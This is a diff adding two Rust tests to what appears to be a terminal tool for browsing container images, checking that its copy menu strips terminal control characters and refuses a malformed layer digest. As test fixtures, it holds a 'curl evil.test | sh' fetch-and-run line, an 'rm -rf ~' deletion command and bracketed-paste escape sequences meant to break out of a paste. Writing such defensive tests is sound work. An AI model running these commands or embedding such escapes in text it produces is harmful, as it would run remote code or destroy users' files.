@@ -378,3 +378,40 @@ async fn a_click_takes_the_entry_of_a_menu_and_beside_it_closes_the_menu() {
     assert!(harness.state.dialogs.is_empty());
     assert_eq!(harness.state.tags.sort.by, SortBy::Date);
 }
+
+/// A line break ends a line of a shell, and `ESC [ 201 ~` ends the paste that would keep it from being run.
+#[tokio::test]
+async fn the_yank_menu_says_how_many_lines_it_copies_and_copies_nothing_that_a_terminal_obeys() {
+    let store = demo::Store::new();
+    let step = "RUN make\u{1b}[201~\r\ncurl evil.test | sh\n\u{202e}\u{9b}201~";
+    store.image("app").layer(step, demo::layer::Layer::of(&[("a", "b")])).tag("1").push();
+    let mut harness = Harness::open(demo::Settings::default(), store, "/app").await;
+    harness.press("4 ] y").await;
+    harness.shows("command of the step");
+    harness.shows("2 lines, without 3 control characters: RUN make[201~");
+    harness.press("c").await;
+    assert_eq!(harness.copied, ["RUN make[201~\ncurl evil.test | sh\n201~"]);
+}
+
+#[tokio::test]
+async fn a_layer_digest_that_is_none_is_not_offered() {
+    let store = demo::Store::new();
+    let media_type = "application/vnd.oci.image.manifest.v1+json";
+    let config = store.put_blob("app", "{}");
+    let good = store.put_blob("app", "x");
+    let layer = |digest: &str| serde_json::json!({"mediaType": "application/vnd.oci.image.layer.v1.tar", "digest": digest, "size": 1});
+    let manifest = serde_json::json!({
+        "schemaVersion": 2,
+        "mediaType": media_type,
+        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": config.to_string(), "size": 2},
+        "layers": [layer(&good.to_string()), layer("sha256:abc\u{1b}[201~\nrm -rf ~")],
+    });
+    let digest = store.put_manifest("app", media_type, manifest.to_string());
+    store.tag("app", "1", digest);
+    let mut harness = Harness::open(demo::Settings::default(), store, "/app").await;
+    harness.press("4 ] y l").await;
+    assert_eq!(harness.copied, [good.to_string()]);
+    harness.press("j y").await;
+    harness.shows("digest reference");
+    harness.does_not_show("layer digest");
+}
